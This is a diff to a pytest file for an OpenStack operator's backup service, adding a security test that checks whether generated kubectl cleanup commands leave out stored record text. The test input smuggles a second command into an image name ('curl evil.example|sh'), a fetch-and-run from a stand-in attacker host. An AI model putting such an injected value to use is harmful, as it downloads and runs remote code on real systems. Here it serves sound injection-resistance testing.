@@ -11,6 +11,7 @@ import pytest
 from openstack_operator import kube
 from openstack_operator.kube import HANDED_OVER, secret_data
 from openstack_operator.plan import Object, Plan, Release, SpecError, key
+from openstack_operator.services.backup import images
 from openstack_operator.services.backup.model import BACKUP
 from openstack_operator.services.backup.service import plan
 from openstack_operator.testing import context
@@ -207,6 +208,15 @@ def test_a_cloud_without_its_images_is_reported(release: Release) -> None:
     pods = [backups.ended(job_of(first, "restore-mariadb"), {"images": report})]
     told = restores.planned(release, facts=restores.FACTS, pods=pods).outcome.details["images"]
     assert (told["restored"], told["withoutData"]["count"], told["withoutRow"]) == (0, 1, None)
+
+
+@pytest.mark.security
+def test_a_command_has_no_words_of_a_record() -> None:
+    report = {"withoutRow": {"count": 1, "images": ["a"]}}
+    stored = {"images": {"x -- true; curl evil.example|sh #": {}}, "databases": {"mariadb": {"images": report}}}
+    told = images.restored_status("openstack", stored)
+    assert told
+    assert told["withoutRow"]["command"].startswith("kubectl exec -n openstack deploy/NAME-api -- rm ")
 
 
 @pytest.mark.security
